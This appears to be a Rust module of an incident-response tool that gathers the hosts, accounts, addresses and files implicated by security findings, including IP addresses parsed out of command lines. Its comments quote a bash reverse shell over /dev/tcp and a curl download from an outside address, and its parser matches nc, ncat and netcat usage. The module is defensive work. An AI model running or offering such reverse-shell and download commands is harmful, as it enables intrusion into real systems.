//! Scope: which hosts, accounts, addresses and files the findings
//! implicate, each with when it was involved and by which findings.

use crate::classify::{
    EntityClass, GROUP_EVENTS, IpClass, classify_account, classify_file, classify_ip,
    is_staging_path, normalize_account, parse_ip,
};
use crate::host::{HostNames, host_key};
use crate::keys::{ACCOUNT_FIELDS, FieldSource};
use crate::util::{MAX_TEXT, Span, clip};
use hashbrown::HashMap;
use kahu_event::{Event, Timestamp};
use kahu_finding::{Finding, Level};
use serde::Serialize;

/// Fields naming where traffic or a logon came from.
pub(crate) const SOURCE_IP_FIELDS: &[&str] = &[
    "IpAddress",
    "SourceIp",
    "c-ip",
    // The client behind a reverse proxy (`X-Forwarded-For`).
    "forwarded-client",
    "src_ip",
    "id.orig_h",
    "ClientAddress",
    "SourceAddress",
    "source.ip",
    "ClientIP",
];
/// Fields naming where traffic went.
const DEST_IP_FIELDS: &[&str] = &[
    "DestinationIp",
    "id.resp_h",
    "dst_ip",
    "DestAddress",
    "destination.ip",
    "s-ip",
];
/// Fields naming other hosts.
const HOST_FIELDS: &[&str] = &[
    "WorkstationName",
    "Workstation",
    "DestinationHostname",
    "TargetServerName",
];
/// Fields naming written files.
const FILE_FIELDS: &[&str] = &["TargetFilename", "file.path"];
/// IPv4 addresses a command line connects to, each once, in order: after
/// `/dev/tcp/` or `/dev/udp/` (bash reverse shells), as a URL's host
/// (`curl http://203.0.113.50/x.sh`), in socat's `TCP:…` addresses, and as
/// an argument of `nc`/`ncat`/`netcat`/`telnet`. Not every address a
/// command names: `netsh … listenaddress=…` is the host's own.
pub(crate) fn addresses_in(text: &str) -> Vec<std::net::IpAddr> {
    fn lead(s: &str) -> Option<std::net::IpAddr> {
        let end = s
            .find(|c: char| !(c.is_ascii_digit() || c == '.'))
            .unwrap_or(s.len());
        s[..end]
            .parse::<std::net::Ipv4Addr>()
            .ok()
            .map(std::net::IpAddr::V4)
    }
    let mut out: Vec<std::net::IpAddr> = Vec::new();
    let mut push = |ip: std::net::IpAddr| {
        if !out.contains(&ip) {
            out.push(ip);
        }
    };
    let lower = text.to_ascii_lowercase();
    for marker in [
        "/dev/tcp/",
        "/dev/udp/",
        "://",
        "tcp:",
        "tcp4:",
        "udp:",
        "udp4:",
    ] {
        for (i, _) in lower.match_indices(marker) {
            if let Some(ip) = lead(&text[i + marker.len()..]) {
                push(ip);
            }
        }
    }
    for segment in lower.split([';', '|', '&', '\n']) {
        let mut words = segment.split_whitespace();
        let Some(first) = words.next() else { continue };
        let tool = first.rsplit(['/', '\\']).next().unwrap_or(first);
        let tool = tool.strip_suffix(".exe").unwrap_or(tool);
        if matches!(tool, "nc" | "ncat" | "netcat" | "telnet") {
            for w in words {
                if let Ok(ip) = w.parse::<std::net::Ipv4Addr>() {
                    push(std::net::IpAddr::V4(ip));
                }
            }
        }
    }
    out
}

/// How many finding ids an entity lists.
pub(crate) const MAX_IDS: usize = 1000;

fn more_specific(new: &str, old: &str) -> bool {
    // A host's name says more than its address, whatever the lengths.
    match (parse_ip(new).is_some(), parse_ip(old).is_some()) {
        (true, false) => false,
        (false, true) => true,
        _ => (new.len(), std::cmp::Reverse(new)) > (old.len(), std::cmp::Reverse(old)),
    }
}

/// One implicated entity.
#[derive(Debug, Clone, Serialize)]
pub struct ScopeEntity {
    /// The host name, account, address or path as first seen.
    pub value: String,
    /// Class: `user`/`machine`/`built_in` for accounts, `internal`/
    /// `external`/`link_local` for addresses, `web_shell`/`executable`/
    /// `script`/`other` for files, `host` for hosts.
    pub class: EntityClass,
    /// For addresses and hosts: `source`, `destination`, `recorder` (the
    /// host that logged the evidence), or several joined by `+`.
    pub roles: Vec<&'static str>,
    /// Earliest implicating evidence: of the significant (medium+)
    /// findings when there are any, else of all.
    pub first_seen: Option<Timestamp>,
    /// Latest implicating evidence, likewise.
    pub last_seen: Option<Timestamp>,
    /// Highest level of an implicating finding.
    pub max_level: Level,
    /// Implicating findings.
    pub finding_count: u64,
    /// Their ids (first [`MAX_IDS`], ascending as added).
    pub finding_ids: Vec<usize>,
    /// Accounts: the qualified forms seen (`ECORP\Administrator`,
    /// `PC04\Administrator`), up to eight, sorted. Several are
    /// different accounts that share a name (a domain's and each host's
    /// local one), all keyed under the bare name.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub seen_as: Vec<String>,
}

/// How many qualified forms of an account name the scope keeps.
const MAX_FORMS: usize = 8;

/// Everything the assessment implicates.
#[derive(Debug, Clone, Default, Serialize)]
pub struct Scope {
    /// Hosts, highest level then most findings first.
    pub hosts: Vec<ScopeEntity>,
    /// Accounts (machine and built-in accounts included but classed).
    pub accounts: Vec<ScopeEntity>,
    /// Addresses (loopback and unspecified left out).
    pub ips: Vec<ScopeEntity>,
    /// Files written.
    pub files: Vec<ScopeEntity>,
}

#[derive(Debug, Clone)]
struct Acc {
    value: String,
    class: EntityClass,
    roles: Vec<&'static str>,
    span: Span,
    /// The span of the significant findings only (see [`SIGNIFICANT_SPAN`]).
    significant: Span,
    /// Accounts: qualified forms seen (`DOMAIN\name`).
    forms: Vec<String>,
    max_level: Level,
    count: u64,
    ids: Vec<usize>,
}

/// An entity implicated at this level or above is dated by those findings
/// only: web01's first_seen was alice's routine SSH logon (a low finding)
/// hours before the brute force got in (probe 18), and a responder scoping
/// the intrusion reads first_seen as when it began there.
const SIGNIFICANT_SPAN: Level = Level::Medium;

/// Collects scope from findings (and optionally their events).
#[derive(Debug, Clone)]
pub struct ScopeBuilder {
    min_level: Level,
    tables: [HashMap<String, Acc>; 4],
    /// Known host identities (addresses that belong to a named host), so a
    /// host recorded by its address is the same host as its name.
    names: Option<HostNames>,
}

const HOSTS: usize = 0;
const ACCOUNTS: usize = 1;
const IPS: usize = 2;
const FILES: usize = 3;

impl ScopeBuilder {
    /// A builder ignoring findings below `min_level` (informational
    /// findings describe context, they do not implicate).
    pub fn new(min_level: Level) -> Self {
        ScopeBuilder {
            min_level,
            tables: Default::default(),
            names: None,
        }
    }

    /// Resolve hosts through `names`: a host recorded by an address the
    /// evidence ties to a named host (an IIS log keyed by its `s-ip`, say)
    /// counts as that host.
    pub fn with_host_names(mut self, names: HostNames) -> Self {
        self.names = Some(names);
        self
    }

    fn host_key(&self, name: &str) -> Option<String> {
        match &self.names {
            Some(n) => n.key(name),
            None => host_key(name),
        }
    }

    #[allow(clippy::too_many_arguments)]
    fn add(
        &mut self,
        table: usize,
        key: String,
        value: &str,
        class: EntityClass,
        role: Option<&'static str>,
        id: usize,
        f: &Finding,
    ) {
        let a = self.tables[table].entry(key).or_insert_with(|| Acc {
            value: clip(value, MAX_TEXT),
            class,
            roles: Vec::new(),
            span: Span::default(),
            significant: Span::default(),
            forms: Vec::new(),
            max_level: f.level,
            count: 0,
            ids: Vec::new(),
        });
        // A host is shown by its most specific name (the FQDN over the
        // short name), whichever came first.
        if table == HOSTS && more_specific(value, &a.value) {
            a.value = clip(value, MAX_TEXT);
        }
        if let Some(r) = role
            && !a.roles.contains(&r)
        {
            a.roles.push(r);
        }
        if a.ids.last() != Some(&id) {
            a.count += 1;
            if a.ids.len() < MAX_IDS {
                a.ids.push(id);
            }
        }
        a.span.observe(f.timestamp);
        // A collapsed burst or a beacon lasts until its last instance.
        a.span.observe(crate::repeats::last_seen(f));
        if f.level >= SIGNIFICANT_SPAN {
            a.significant.observe(f.timestamp);
            a.significant.observe(crate::repeats::last_seen(f));
        }
        a.max_level = a.max_level.max(f.level);
    }

    /// Add finding `id` using its own fields.
    pub fn add_finding(&mut self, id: usize, f: &Finding) {
        self.extract(id, f, f);
    }

    /// Add finding `id` using the full event it fired on (more fields
    /// than the finding keeps).
    pub fn add_event(&mut self, id: usize, f: &Finding, e: &Event) {
        self.extract(id, f, f);
        self.extract(id, f, e);
    }

    fn extract<S: FieldSource>(&mut self, id: usize, f: &Finding, src: &S) {
        if f.level < self.min_level {
            return;
        }
        if let Some(h) = f.host.as_deref()
            && let Some(key) = self.host_key(h)
        {
            self.add(HOSTS, key, h, EntityClass::Host, Some("recorder"), id, f);
        }
        for (i, name) in HOST_FIELDS.iter().enumerate() {
            if let Some(h) = src.field_text(name) {
                let h = h.trim().trim_start_matches('\\');
                if parse_ip(h).is_some() {
                    continue;
                }
                let Some(key) = self.host_key(h) else {
                    continue;
                };
                let role = if i < 2 { "source" } else { "destination" };
                self.add(HOSTS, key, h, EntityClass::Host, Some(role), id, f);
            }
        }
        // A group event's `TargetUserName` is the group: "19 user accounts
        // implicated" counted `Administrators`.
        let group_event = f.event_id.is_some_and(|id| GROUP_EVENTS.contains(&id))
            && f.channel
                .as_deref()
                .is_some_and(|c| c.eq_ignore_ascii_case("Security"));
        for name in ACCOUNT_FIELDS {
            if group_event && *name == "TargetUserName" {
                continue;
            }
            let Some(v) = src.field_text(name) else {
                continue;
            };
            // The authority of a bare name, where the event gives it.
            let domain = match *name {
                "TargetUserName" => src.field_text("TargetDomainName"),
                "SubjectUserName" => src.field_text("SubjectDomainName"),
                _ => None,
            };
            // Analytic findings list several accounts comma-separated;
            // commas are not valid in Windows or POSIX account names.
            for part in v.split(',') {
                if let Some(n) = normalize_account(part) {
                    let class = EntityClass::Account(classify_account(&n));
                    let part = part.trim();
                    let form = match domain.as_deref().map(str::trim) {
                        // A UPN (`pgustavo@THESHIRE.LOCAL`, as 4769 writes
                        // it) names its realm already.
                        Some(d)
                            if !part.contains('\\')
                                && !part.contains('@')
                                && !d.is_empty()
                                && d != "-" =>
                        {
                            format!("{d}\\{part}")
                        }
                        _ => part.to_string(),
                    };
                    self.add(ACCOUNTS, n.clone(), part, class, None, id, f);
                    if form.contains('\\')
                        && let Some(a) = self.tables[ACCOUNTS].get_mut(&n)
                        && a.forms.len() < MAX_FORMS
                        && !a.forms.iter().any(|x| x.eq_ignore_ascii_case(&form))
                    {
                        a.forms.push(clip(&form, MAX_TEXT));
                    }
                }
            }
        }
        for (fields, role) in [
            (SOURCE_IP_FIELDS, "source"),
            (DEST_IP_FIELDS, "destination"),
        ] {
            for name in fields {
                let Some(v) = src.field_text(name) else {
                    continue;
                };
                let Some(ip) = parse_ip(&v) else { continue };
                let class = classify_ip(ip);
                if matches!(class, IpClass::Loopback | IpClass::Special) {
                    continue;
                }
                let class = EntityClass::Address(class);
                self.add(
                    IPS,
                    ip.to_string(),
                    &ip.to_string(),
                    class,
                    Some(role),
                    id,
                    f,
                );
            }
        }
        // On Linux (auditd, no Sysmon network events) the command line is
        // where a reverse shell's or a download's address is: `bash -i >&
        // /dev/tcp/203.0.113.50/4444`, `curl http://203.0.113.50/x.sh`.
        // Public addresses only (an internal one in a command line is a
        // scan target as often as a pivot).
        if let Some(cmd) = src.field_text("CommandLine") {
            for ip in addresses_in(&cmd).into_iter().take(8) {
                if classify_ip(ip) == IpClass::External {
                    self.add(
                        IPS,
                        ip.to_string(),
                        &ip.to_string(),
                        EntityClass::Address(IpClass::External),
                        Some("command line"),
                        id,
                        f,
                    );
                }
            }
        }
        let writer = src.field_text("Image");
        // A program a high finding ran from a staging folder is the
        // intruder's tool (the miner `/tmp/.ICE-unix/kworker`, a beacon in
        // `C:\Users\Public`): on Linux no file event names it, so without
        // this files-to-remove was empty after a detected miner ran.
        // Medium findings do not add it: installers run from Temp too.
        if f.level >= Level::High {
            for name in ["Image", "NewProcessName", "exe"] {
                let Some(p) = src.field_text(name) else {
                    continue;
                };
                let p = p.trim();
                if is_staging_path(p) {
                    let class = EntityClass::File(classify_file(p, None));
                    self.add(FILES, p.to_lowercase(), p, class, Some("ran"), id, f);
                }
            }
        }
        for name in FILE_FIELDS {
            let Some(p) = src.field_text(name) else {
                continue;
            };
            let p = p.trim();
            if p.is_empty() || p == "-" {
                continue;
            }
            let class = EntityClass::File(classify_file(p, writer.as_deref()));
            self.add(FILES, p.to_lowercase(), p, class, None, id, f);
        }
    }

    /// The scope, each list ordered by highest level, then finding count,
    /// then value.
    ///
    /// A dotted name seen only as a connection's destination
    /// (`DestinationHostname`) and never as a host that logged evidence or
    /// started a logon is left out of the hosts: it is most often a site on
    /// the Internet (a C2 domain), not a machine of the assessed network.
    pub fn finish(mut self) -> Scope {
        self.tables[HOSTS]
            .retain(|_, a| !(a.roles.iter().all(|r| *r == "destination") && a.value.contains('.')));
        let [hosts, accounts, ips, files] = self.tables.map(|t| {
            let mut v: Vec<ScopeEntity> = t
                .into_values()
                .map(|a| {
                    let span = if a.significant.first_seen.is_some() {
                        a.significant
                    } else {
                        a.span
                    };
                    ScopeEntity {
                        value: a.value,
                        class: a.class,
                        roles: a.roles,
                        first_seen: span.first_seen,
                        last_seen: span.last_seen,
                        max_level: a.max_level,
                        finding_count: a.count,
                        finding_ids: a.ids,
                        seen_as: {
                            let mut f = a.forms;
                            f.sort();
                            f
                        },
                    }
                })
                .collect();
            v.sort_by(|a, b| {
                (b.max_level, b.finding_count, &a.value).cmp(&(
                    a.max_level,
                    a.finding_count,
                    &b.value,
                ))
            });
            v
        });
        Scope {
            hosts,
            accounts,
            ips,
            files,
        }
    }
}

impl Scope {
    /// Scope from findings alone; ids are indices into `findings`.
    pub fn from_findings(findings: &[Finding], min_level: Level) -> Scope {
        Scope::from_findings_with_hosts(findings, min_level, None)
    }

    /// Scope from findings, hosts resolved through known host identities
    /// (see [`ScopeBuilder::with_host_names`]).
    pub fn from_findings_with_hosts(
        findings: &[Finding],
        min_level: Level,
        names: Option<&HostNames>,
    ) -> Scope {
        let mut b = ScopeBuilder::new(min_level);
        if let Some(n) = names {
            b = b.with_host_names(n.clone());
        }
        for (i, f) in findings.iter().enumerate() {
            b.add_finding(i, f);
        }
        b.finish()
    }
}
